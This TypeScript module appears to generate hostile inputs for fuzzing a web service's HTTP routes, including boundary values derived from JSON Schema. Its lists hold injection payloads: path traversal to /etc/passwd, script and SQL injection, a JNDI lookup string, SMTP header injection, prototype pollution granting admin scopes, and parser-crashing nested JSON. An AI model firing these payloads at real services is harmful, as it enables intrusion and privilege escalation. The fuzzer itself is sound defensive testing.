import fc from 'fast-check';

// Hostile values for the HTTP fuzzer, and arbitraries derived from a route's JSON Schema (the
// zod schemas of the route table through z.toJSONSchema), so a new field or route is fuzzed
// without anyone writing a generator for it.

/** JSON text inserted verbatim: numbers JSON.stringify cannot write (1e400), deep nesting. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** An object as an entry list, so `__proto__` stays a plain key and keys can repeat. */
export class Entries {
  constructor(readonly entries: [string, JsonValue][]) {}
}

export type JsonValue = null | boolean | number | string | RawJson | Entries | JsonValue[];

export function jsonText(v: JsonValue): string {
  if (v instanceof RawJson) return v.text;
  if (v instanceof Entries) return `{${v.entries.map(([k, x]) => `${JSON.stringify(k)}:${jsonText(x)}`).join(',')}}`;
  if (Array.isArray(v)) return `[${v.map(jsonText).join(',')}]`;
  return JSON.stringify(v);
}

/** A plain value (a fixture's body) as JsonValue. */
export function fromPlain(v: unknown): JsonValue {
  if (Array.isArray(v)) return v.map(fromPlain);
  if (v && typeof v === 'object') return new Entries(Object.entries(v).map(([k, x]) => [k, fromPlain(x)]));
  return (v ?? null) as JsonValue;
}

/** A value as it travels in a query string or a path (numbers and booleans as text). */
export function asText(v: JsonValue): string {
  if (typeof v === 'string') return v;
  return jsonText(v);
}

const MiB = 1024 * 1024;
const long = (n: number, c = 'x') => c.repeat(n);

/** Strings that break naive code: controls, NUL, lone surrogates, bidi marks, injections, sizes. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800x',
  '\u202eexe.txt',
  '\u200b\u200f\u2066',
  '\ufeff',
  '\uffff',
  '\u0085',
  'Ω≈ç√ 日本語 Ελληνικά',
  '🎉'.repeat(40),
  'e\u0301'.repeat(400),
  'ﷺ'.repeat(100),
  '\r\nBcc: evil@remote.example',
  'a\rb\nc',
  '"',
  '\\',
  "'",
  '`',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '/',
  '.',
  '..',
  '%00',
  '%',
  '%zz',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '"; drop table message; --',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%s%n',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '1e400',
  '-1',
  '9007199254740993',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  ' a@b.test ',
  'A@B.TEST',
  'a@b',
  '@',
  'a@',
  '@b.test',
  'a@[127.0.0.1]',
  '"a b"@b.test',
  'a@b.test\r\nRCPT TO:<x@y.z>',
  'x@localhost',
  `${long(64)}@${long(250, 'd')}.test`,
  long(201),
  long(321),
  long(999),
  long(4097),
  long(65_537),
];

/** Built once: a string too large for any JSON body (MAX_JSON_BYTES is 1 MiB). */
export const HUGE_STRING = long(MiB + 17);

const deep = (n: number, open: string, close: string, leaf = '1') =>
  new RawJson(open.repeat(n) + leaf + close.repeat(n));

/** Any JSON value that no field expects, including the shapes that crash parsers and validators. */
export const hostileValueArb: fc.Arbitrary<JsonValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<JsonValue>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      -0.0001,
      2 ** 31,
      2 ** 53 + 2,
      -(2 ** 63),
      1e21,
      1e308,
      -1e308,
      Number.MIN_VALUE,
      new RawJson('1e400'),
      new RawJson('-1e400'),
      new RawJson(`1${'0'.repeat(400)}`),
      new RawJson('0.0000000000000000000000001e-400'),
      new RawJson('-0'),
      [],
      [null],
      [[[]]],
      new Entries([]),
      Array.from({ length: 2000 }, (_, i) => i),
      new Entries([
        [
          '__proto__',
          new Entries([
            ['isAdmin', true],
            ['scopes', ['DomainManage']],
          ]),
        ],
      ]),
      new Entries([['constructor', new Entries([['prototype', new Entries([['polluted', true]])]])]]),
      new Entries([
        ['toString', 1],
        ['valueOf', 'x'],
        ['hasOwnProperty', null],
      ]),
      deep(64, '[', ']'),
      deep(10_000, '[', ']'),
      deep(5_000, '{"a":', '}'),
      deep(100, '{"__proto__":', '}', '{}'),
    ),
  },
);

/** Id-like strings for path parameters and id lists: empty, over-long, traversal, encodings. */
export const HOSTILE_IDS: readonly string[] = [
  '',
  ' ',
  '0',
  '-1',
  'null',
  'undefined',
  long(199),
  long(201),
  long(4000),
  '..',
  '.',
  '../..',
  '%',
  '%00',
  '%2e%2e',
  '%2F',
  '%zz',
  '%C0%AF',
  '%FF',
  "msg_' OR '1'='1",
  'msg_\u0000',
  '\u202emsg',
  '🎉',
  'msg_' + long(40, 'A'),
  'tok_' + long(40, '0'),
  'mbx_' + long(40, 'z'),
  '__proto__',
  'constructor',
];

type Schema = Record<string, any>;
export type Pools = Map<string, JsonValue[]>;

const lengthsOf = (s: Schema): number[] => {
  const min = typeof s.minLength === 'number' ? s.minLength : 0;
  const max = typeof s.maxLength === 'number' ? s.maxLength : 300;
  return [...new Set([0, 1, min, Math.max(0, min - 1), max, max + 1, Math.min(max * 2, 2 * MiB)])];
};

/** Values at and just past a schema's edges, of its own type and of neighbouring types. */
export function boundaryArb(s: Schema, pools: Pools, key: string | null, depth = 0): fc.Arbitrary<JsonValue> {
  const alternatives = s.anyOf ?? s.oneOf;
  if (Array.isArray(alternatives))
    return fc.oneof(...alternatives.map((a: Schema) => boundaryArb(a, pools, key, depth)));
  if (s.const !== undefined)
    return fc.constantFrom<JsonValue>(s.const, typeof s.const === 'string' ? s.const.toUpperCase() : null, '');
  if (Array.isArray(s.enum)) {
    const e = s.enum as JsonValue[];
    return fc.constantFrom<JsonValue>(
      ...e,
      ...e.map((v) => (typeof v === 'string' ? v.toUpperCase() : v)),
      ...e.map((v) => (typeof v === 'string' ? ` ${v} ` : v)),
      '',
    );
  }
  const types: string[] = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
  if (!types.length) {
    if (s.properties) types.push('object');
    else return hostileValueArb; // unknown / any
  }
  return fc.oneof(...types.map((t) => byType(t, s, pools, key, depth)));
}

function byType(t: string, s: Schema, pools: Pools, key: string | null, depth: number): fc.Arbitrary<JsonValue> {
  switch (t) {
    case 'string':
      return fc
        .tuple(fc.constantFrom(...lengthsOf(s)), fc.constantFrom('a', 'é', '🎉', '\u0000', '\u202e', ' ', '%'))
        .map(([n, c]) => c.repeat(Math.ceil(n / c.length)));
    case 'integer':
    case 'number': {
      const min =
        typeof s.minimum === 'number' ? s.minimum : typeof s.exclusiveMinimum === 'number' ? s.exclusiveMinimum : -1;
      const max =
        typeof s.maximum === 'number' ? s.maximum : typeof s.exclusiveMaximum === 'number' ? s.exclusiveMaximum : 1e6;
      return fc.constantFrom<JsonValue>(
        min,
        max,
        min - 1,
        max + 1,
        0,
        -1,
        0.5,
        max - 0.5,
        2 ** 53 + 2,
        1e308,
        new RawJson('1e400'),
        String(min),
        String(max + 1),
        '',
      );
    }
    case 'boolean':
      return fc.constantFrom<JsonValue>(true, false, 'true', 'false', 1, 0, null, 'yes');
    case 'null':
      return fc.constant(null);
    case 'array': {
      const item = (s.items ?? {}) as Schema;
      const itemKey = key;
      const max = typeof s.maxItems === 'number' ? s.maxItems : 10;
      const pool = itemKey ? (pools.get(itemKey) ?? []) : [];
      const filler: JsonValue = pool.find((v) => typeof v === 'string') ?? 'x';
      return fc.oneof(
        fc.array(depth < 3 ? shapedArb(item, pools, itemKey, depth + 1) : hostileValueArb, { maxLength: 4 }),
        fc.constantFrom<JsonValue>(
          [],
          Array.from({ length: max + 1 }, () => filler),
          Array.from({ length: Math.min(max, 1000) }, (_, i) => `${String(filler)}${i}`),
        ),
      );
    }
    case 'object':
      return depth < 3 ? objectArb(s, pools, depth + 1) : fc.constant<JsonValue>(new Entries([]));
    default:
      return hostileValueArb;
  }
}

/** One field: a known-good value of that name (from the fixtures), an edge of its schema, or anything. */
export function shapedArb(s: Schema, pools: Pools, key: string | null, depth = 0): fc.Arbitrary<JsonValue> {
  const pool = key ? pools.get(key) : undefined;
  return fc.oneof(
    ...(pool?.length ? [{ weight: 4, arbitrary: fc.constantFrom(...pool) }] : []),
    { weight: 3, arbitrary: boundaryArb(s, pools, key, depth) },
    { weight: 2, arbitrary: hostileValueArb },
  );
}

/** An object of the schema's properties, each present or not, with an occasional extra key. */
export function objectArb(s: Schema, pools: Pools, depth = 0): fc.Arbitrary<JsonValue> {
  const props = Object.entries((s.properties ?? {}) as Record<string, Schema>);
  const fields = props.map(([k, p]) =>
    fc.option(
      shapedArb(p, pools, k, depth).map((v) => [k, v] as [string, JsonValue]),
      { nil: undefined },
    ),
  );
  return fc.tuple(fc.tuple(...fields), fc.option(extraEntryArb, { nil: undefined })).map(([present, extra]) => {
    const entries = present.filter((e): e is [string, JsonValue] => e !== undefined);
    if (extra) entries.push(extra);
    return new Entries(entries);
  });
}

export const EXTRA_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'isAdmin',
  'mailboxId',
  'domainId',
  'scopes',
  'kind',
  '',
  ' ',
  '\u0000',
  'a'.repeat(300),
];
export const extraEntryArb: fc.Arbitrary<[string, JsonValue]> = fc.tuple(
  fc.constantFrom(...EXTRA_KEYS),
  hostileValueArb,
);

/** Bodies that are not the JSON object a route expects at all. */
export const GARBAGE_BODIES: readonly Buffer[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '-1',
  '"text"',
  '[]',
  '[{}]',
  '{',
  '}',
  '{"a":',
  '{"a":1,}',
  '{a:1}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '\u0000',
  '{"a":"\u0000"}',
  'NaN',
  'Infinity',
  '{"a":NaN}',
  '{"a":1e400}',
  '\ufeff{}',
  '{"__proto__":{"x":1}}',
  `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  `${'['.repeat(500_000)}${']'.repeat(500_000)}`,
  `{"a":"${HUGE_STRING}"}`,
]
  .map((s) => Buffer.from(s, 'utf8'))
  .concat([
    Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]), // UTF-16LE with BOM
    Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]), // {"a":"<invalid UTF-8>"}
    Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]), // an encoded surrogate
  ]);
